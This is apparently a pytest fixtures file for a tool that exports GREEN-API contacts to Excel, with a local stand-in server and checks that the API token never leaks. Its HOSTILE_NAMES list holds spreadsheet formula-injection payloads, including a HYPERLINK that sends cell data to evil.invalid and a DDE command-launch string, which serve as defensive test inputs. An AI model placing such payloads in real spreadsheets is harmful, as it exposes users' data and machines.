"""A real HTTP server on 127.0.0.1 plays GREEN-API for every test that fetches."""

from __future__ import annotations

import os

# xlwings registers its remote engine (real Book objects without Excel) when it
# is imported, and only with a license key: the noncommercial one, tests only.
os.environ.setdefault("XLWINGS_LICENSE_KEY", "noncommercial")

import json
import logging
import time
from collections.abc import Iterator
from typing import Any

import keyring
import pytest
from file_keyring import FileKeyring
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from xl_contacts import client as client_module
from xl_contacts import fetch
from xl_contacts.client import GreenApiClient
from xl_contacts.demo import REFERENCE_PAGE_CONTACTS
from xl_contacts.demo import synthetic_contacts as make_contacts  # noqa: F401 - shared
from xl_contacts.settings import (
    ENV_API_TOKEN,
    ENV_API_URL,
    ENV_ID_INSTANCE,
    Settings,
    load_settings,
)

# Long and distinctive, so a leak anywhere is found by a plain substring search.
TOKEN = "d75b3a66374942c5b3c019c698abc2067e151558acbd412345"
ID_INSTANCE = "1101823456"

REFERENCE_CONTACTS: list[dict[str, Any]] = [dict(c) for c in REFERENCE_PAGE_CONTACTS]

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "bell\x07and\x00nul\x1bescape",
    "x" * 40_000,
    "\x01\x02",  # nothing a workbook can hold: an empty cell
]


class FakeGreenApi:
    """The stand-in GREEN-API: answers getContacts for one instance."""

    def __init__(self, server: HTTPServer) -> None:
        self.server = server
        self.url = server.url_for("").rstrip("/")
        self.path = f"/waInstance{ID_INSTANCE}/getContacts/{TOKEN}"

    def answer(
        self,
        contacts: Any = None,
        *,
        status: int = 200,
        body: str | None = None,
        headers: dict[str, str] | None = None,
        content_type: str = "application/json",
        once: bool = False,
    ) -> None:
        """Register an answer; ``once`` answers are used up in registration order
        before the permanent one."""
        if body is None:
            body = json.dumps(REFERENCE_CONTACTS if contacts is None else contacts)
        expect = self.server.expect_oneshot_request if once else self.server.expect_request
        expect(self.path, method="GET").respond_with_response(
            Response(body, status=status, headers=headers, content_type=content_type)
        )

    def answer_state(self, state: str = "authorized", *, status: int = 200) -> None:
        """Register the answer of getStateInstance."""
        path = f"/waInstance{ID_INSTANCE}/getStateInstance/{TOKEN}"
        self.server.expect_request(path, method="GET").respond_with_response(
            Response(
                json.dumps({"stateInstance": state}), status=status, content_type="application/json"
            )
        )

    def answer_slowly(self, contacts: Any, delay: float) -> None:
        """Answer every request after ``delay`` seconds."""

        def handler(request: Request) -> Response:
            time.sleep(delay)
            return Response(json.dumps(contacts), content_type="application/json")

        self.answer_with(handler)

    def answer_with(self, handler: Any) -> None:
        self.server.expect_request(self.path, method="GET").respond_with_handler(handler)

    @property
    def requests(self) -> list[Request]:
        return [request for request, _ in self.server.log]

    def settings(self) -> Settings:
        return load_settings(self.url, ID_INSTANCE, TOKEN, env={})

    def client(self, **options: Any) -> GreenApiClient:
        options = {"timeout": (2.0, 5.0), **options}
        return GreenApiClient(self.settings(), **options)

    def env(self) -> dict[str, str]:
        return {ENV_API_URL: self.url, ENV_ID_INSTANCE: ID_INSTANCE, ENV_API_TOKEN: TOKEN}


@pytest.fixture(scope="session")
def _server() -> Iterator[HTTPServer]:
    server = HTTPServer(host="127.0.0.1", port=0, threaded=True)
    server.start()
    yield server
    server.stop()


@pytest.fixture
def green_api(_server: HTTPServer) -> Iterator[FakeGreenApi]:
    """The stand-in server with no answers registered and an empty request log."""
    _server.clear()
    yield FakeGreenApi(_server)
    _server.clear()


@pytest.fixture
def green_api_env(green_api: FakeGreenApi, monkeypatch: pytest.MonkeyPatch) -> FakeGreenApi:
    """The stand-in server's credentials in the environment, as a user would set them."""
    for name, value in green_api.env().items():
        monkeypatch.setenv(name, value)
    return green_api


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> None:
    """No credentials from the developer's machine (environment, settings file or
    credential store), no 1-second pauses between the many requests a test
    suite makes, and fresh shared clients."""
    for name in (ENV_API_URL, ENV_ID_INSTANCE, ENV_API_TOKEN):
        monkeypatch.delenv(name, raising=False)
    home = tmp_path_factory.mktemp("home")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / "config"))
    monkeypatch.setenv("TEST_KEYRING_FILE", str(home / "keyring.json"))
    keyring.set_keyring(FileKeyring())
    monkeypatch.setattr(client_module, "RATE_LIMIT_INTERVAL", 0.0)
    monkeypatch.setattr(client_module, "BACKOFF_SECONDS", 0.01)
    fetch._clients.clear()


@pytest.fixture
def all_logs(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    """Capture every log record, urllib3's request lines included."""
    caplog.set_level(logging.DEBUG)
    return caplog


def client_side_logs(caplog: pytest.LogCaptureFixture) -> list[str]:
    """Every captured log message except the stand-in server's own access log
    (the server is GREEN-API's side: it sees the token by definition)."""
    return [r.getMessage() for r in caplog.records if not r.name.startswith("werkzeug")]


def assert_no_token(*texts: Any) -> None:
    for text in texts:
        assert TOKEN not in str(text), "the API token leaked"


def file_has_no_token(path: os.PathLike[str] | str) -> None:
    """Search the raw bytes of a file and, for zip packages, every member."""
    import zipfile

    data = open(path, "rb").read()
    assert TOKEN.encode() not in data
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as package:
            for member in package.namelist():
                assert TOKEN.encode() not in package.read(member), member
